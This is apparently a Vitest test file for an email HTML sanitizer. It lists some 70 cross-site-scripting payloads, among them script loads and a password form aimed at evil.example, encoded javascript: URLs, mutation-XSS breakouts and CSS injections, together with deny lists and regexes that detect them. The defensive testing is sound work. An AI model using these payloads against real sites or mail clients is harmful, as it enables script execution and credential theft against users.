// @vitest-environment jsdom
// Every case is a known way to run script, leave the frame, or smuggle markup past a
// sanitizer. The output is parsed again, as the frame will parse it, and searched for the danger.
import { describe, expect, it } from 'vitest';
import { sanitizeMailHtml } from '../../src/shared/sanitize/index.js';

const FORBIDDEN_ELEMENTS = new Set([
  'script', 'svg', 'math', 'base', 'meta', 'link', 'form', 'input', 'button', 'select',
  'textarea', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'noscript',
  'template', 'dialog', 'xmp', 'title', 'marquee',
]);
const FORBIDDEN_ATTRIBUTES = new Set(['srcdoc', 'formaction', 'action', 'xlink:href', 'ping']);
const DANGEROUS_URL = /javascript:|vbscript:|data:text\/html|data:image\/svg/;
const DANGEROUS_CSS = /expression\(|@import|javascript:|vbscript:|behavior:|-moz-binding|position:(?:fixed|sticky)/;

/** Comments, escapes and whitespace removed, lower case: how the checks below read CSS and URLs. */
function compact(text: string): string {
  return text
    .replace(/\/\*[\s\S]*?\*\//g, '')
    .replace(/\\([0-9a-f]{1,6})\s?/gi, (_m, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .toLowerCase()
    .replace(/[\u0000-\u0020]+/g, '');
}

/** Markup inside an attribute or a raw-text element: the raw material of mutation XSS. */
const MARKUP = /<[a-z/!?]/i;

/** Parses the HTML as the frame does (inside a body) and lists every danger still in it. */
function dangersIn(html: string): string[] {
  const source = /<html[\s>]/i.test(html) ? html : `<!DOCTYPE html><html><head></head><body>${html}</body></html>`;
  const doc = new DOMParser().parseFromString(source, 'text/html');
  const found: string[] = [];
  for (const element of [doc.documentElement, ...Array.from(doc.documentElement.querySelectorAll('*'))]) {
    const tag = element.localName;
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`foreign element <${tag}>`);
    if (FORBIDDEN_ELEMENTS.has(tag)) found.push(`<${tag}>`);
    for (const { name, value } of Array.from(element.attributes)) {
      if (name.startsWith('on')) found.push(`${tag}[${name}]`);
      if (FORBIDDEN_ATTRIBUTES.has(name)) found.push(`${tag}[${name}]`);
      if (DANGEROUS_URL.test(compact(value)) || MARKUP.test(value)) found.push(`${tag}[${name}=${value}]`);
      if (name.endsWith('style') && DANGEROUS_CSS.test(compact(value))) found.push(`${tag}[${name}=${value}]`);
    }
    const text = element.textContent ?? '';
    if (tag === 'style' && (DANGEROUS_CSS.test(compact(text)) || DANGEROUS_URL.test(compact(text)) || MARKUP.test(text))) {
      found.push(`<style>${text}</style>`);
    }
  }
  return found;
}

interface HostileCase {
  name: string;
  html: string;
  /** Harmless text that must survive, to show the case was sanitized rather than emptied. */
  keeps?: string;
}

const cases: HostileCase[] = [
  // Script elements
  { name: 'plain script', html: '<p>hi</p><script>alert(1)</script>', keeps: 'hi' },
  { name: 'external script, upper case', html: '<SCRIPT SRC=http://evil.example/x.js></SCRIPT><p>hi</p>', keeps: 'hi' },
  { name: 'script with a slash for a space', html: '<script/src="//evil.example/x.js"></script><p>hi</p>', keeps: 'hi' },
  { name: 'module script', html: '<script type="module">import("//evil.example/x.js")</script>' },
  { name: 'script in the head', html: '<html><head><script>alert(1)</script></head><body>hi</body></html>', keeps: 'hi' },
  // Event handlers on every kind of element
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  { name: 'body onload', html: '<body onload=alert(1)><p>hi</p></body>', keeps: 'hi' },
  { name: 'div onmouseover', html: '<div onmouseover="alert(1)">hover</div>', keeps: 'hover' },
  { name: 'a onclick', html: '<a href="https://ok.example/" onclick="alert(1)">x</a>', keeps: 'x' },
  { name: 'table cells with handlers', html: '<table onmouseenter=alert(1)><tr onclick=alert(1)><td onfocus=alert(1)>cell</td></tr></table>', keeps: 'cell' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)><summary>more</summary>x</details>', keeps: 'more' },
  { name: 'video source onerror', html: '<video><source onerror=alert(1)></video>' },
  { name: 'audio onerror', html: '<audio src=x onerror=alert(1)></audio>' },
  { name: 'mixed-case handlers, autofocus', html: '<p ONFOCUS=alert(1) onPointerDown=alert(1) tabindex=1 autofocus>x</p>', keeps: 'x' },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'style element onload', html: '<style onload=alert(1)>p{color:red}</style><p>x</p>', keeps: 'x' },
  // javascript: and friends in links
  { name: 'javascript: with spaces and mixed case', html: '<a href="  jAvAsCrIpT:alert(1)">x</a>', keeps: 'x' },
  { name: 'javascript: as decimal entities', html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>' },
  { name: 'javascript: with zero-padded entity', html: '<a href="&#0000106avascript:alert(1)">x</a>' },
  { name: 'javascript: split by a tab entity', html: '<a href="java&#x09;script:alert(1)">x</a>' },
  { name: 'javascript: split by a newline', html: '<a href="java\nscript:alert(1)">x</a>' },
  { name: 'javascript: after a control character', html: '<a href="&#x01;javascript:alert(1)">x</a>' },
  { name: 'javascript&colon;', html: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'vbscript:', html: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'data:text/html link', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>' },
  { name: 'data:text/html image', html: '<img src="data:text/html,<script>alert(1)</script>">' },
  { name: 'data:image/svg+xml image', html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">' },
  { name: 'javascript: in srcset', html: '<img srcset="javascript:alert(1) 1x, x 2x">' },
  { name: 'javascript: poster', html: '<video poster="javascript:alert(1)"></video>' },
  // SVG and MathML
  { name: 'svg animate to javascript:', html: '<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>' },
  { name: 'svg set handler', html: '<svg><set attributeName=onmouseover to=alert(1) /></svg>' },
  { name: 'svg use of a data: document', html: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"></use></svg>` },
  { name: 'svg onload', html: '<svg onload=alert(1)><circle r=5 /></svg>' },
  { name: 'MathML maction xlink:href', html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>' },
  { name: 'MathML href', html: '<math href="javascript:alert(1)"><mi>x</mi></math>' },
  // mXSS: markup that changes meaning when serialized and parsed again
  { name: 'noscript title breakout', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: 'style inside svg', html: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  { name: 'mglyph namespace confusion', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'nested forms into MathML', html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>' },
  { name: 'mglyph/svg title breakout', html: '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>' },
  { name: 'comment hidden end tag in style', html: '<style>p{color:red}</**/style><img src=x onerror=alert(1)></style>' },
  { name: 'xmp raw text', html: '<xmp><img src=x onerror=alert(1)></xmp>' },
  { name: 'template content', html: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'textarea raw text', html: '<textarea><img src=x onerror=alert(1)></textarea>' },
  { name: 'attribute breakout attempt', html: '<p title="</p><script>alert(1)</script>">x</p>', keeps: 'x' },
  // Navigation, re-basing and forms
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>x</p>', keeps: 'x' },
  { name: 'meta refresh in the head', html: '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body>x</body></html>', keeps: 'x' },
  { name: 'base href', html: '<base href="javascript:/"><a href="/x">x</a>', keeps: 'x' },
  { name: 'form with formaction', html: '<form action="https://evil.example/steal"><input name=p type=password><button formaction="javascript:alert(1)">go</button></form>' },
  { name: 'input type=image', html: '<input type=image src=x onerror=alert(1)>' },
  { name: 'isindex', html: '<isindex action=javascript:alert(1) type=image>' },
  { name: 'dialog onclose', html: '<dialog open onclose=alert(1)>x</dialog>' },
  // Embedded documents and plugins
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'iframe javascript:', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'frameset document', html: '<html><frameset><frame src="javascript:alert(1)"></frameset></html>' },
  { name: 'object data', html: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed src', html: '<embed src="https://evil.example/x.swf">' },
  { name: 'applet', html: '<applet code="Evil.class"></applet>' },
  { name: 'link stylesheet', html: '<link rel=stylesheet href="https://evil.example/x.css"><p>x</p>', keeps: 'x' },
  // CSS
  { name: '@import in style', html: `<style>@import 'http://evil.example/x.css'; p { color: red }</style>` },
  { name: 'escaped @import keyword', html: '<style>@imp\\6frt url(http://evil.example/x.css);</style>' },
  { name: 'url(javascript:) in style attribute', html: '<div style="background:url(javascript:alert(1))">x</div>', keeps: 'x' },
  { name: 'expression()', html: '<div style="width: expression(alert(1))">x</div>', keeps: 'x' },
  { name: 'expression() split by a comment', html: '<div style="width: exp/**/ression(alert(1))">x</div>' },
  { name: 'expression() as CSS escape', html: '<div style="width: \\65 xpression(alert(1))">x</div>' },
  { name: 'behavior and -moz-binding', html: '<div style="behavior: url(x.htc); -moz-binding: url(http://evil.example/x.xml#x)">x</div>' },
  { name: 'dangerous rules in a style element', html: '<style>body { background: url("javascript:alert(1)") } p { -moz-binding: url(x) } a { width: expression(1) }</style>' },
  { name: 'data:text/html font', html: '<style>@font-face { font-family: x; src: url(data:text/html,alert) }</style>' },
  { name: 'image-set with javascript:', html: `<div style="background-image: image-set('javascript:alert(1)' 1x)">x</div>` },
  { name: 'full-frame overlay link', html: '<a href="javascript:alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">win</a>' },
  { name: 'sticky overlay in a sheet', html: '<style>.x { position: -webkit-sticky; top: 0 } .y { position : fixed }</style>' },
  { name: 'table background javascript:', html: '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>' },
];

describe('the sanitizer refuses hostile HTML', () => {
  it('has at least 40 hostile cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(40);
  });

  // Guards the guard: a check that finds nothing in the raw input proves nothing about the output.
  it.each(cases)('the check sees the danger in the raw input: $name', ({ html }) => {
    expect(dangersIn(html)).not.toEqual([]);
  });

  it.each(cases)('$name', ({ html, keeps }) => {
    const result = sanitizeMailHtml(html, { allowRemote: false });
    expect(dangersIn(result.html)).toEqual([]);
    // Sanitized output is a fixed point: if a second pass changed it, parsing had moved markup
    // around between passes, which is the signature of mutation XSS.
    expect(sanitizeMailHtml(result.html, { allowRemote: false }).html).toBe(result.html);
    if (keeps) expect(result.html).toContain(keeps);
  });

  it.each(cases)('$name (remote content allowed)', ({ html }) => {
    expect(dangersIn(sanitizeMailHtml(html, { allowRemote: true }).html)).toEqual([]);
  });

  it('keeps no link that is not http(s) or mailto', () => {
    const result = sanitizeMailHtml(cases.map((c) => c.html).join('\n'), { allowRemote: false });
    expect(result.links.every((link) => /^(?:https?|mailto):/.test(link))).toBe(true);
  });

  it('removes a table background from the web until remote content is allowed', () => {
    const result = sanitizeMailHtml('<table background="http://evil.example/bg.png"><tr><td>x</td></tr></table>', { allowRemote: false });
    expect(result.html).not.toMatch(/ background=/);
    expect(result.blocked).toBe(1);
  });
});
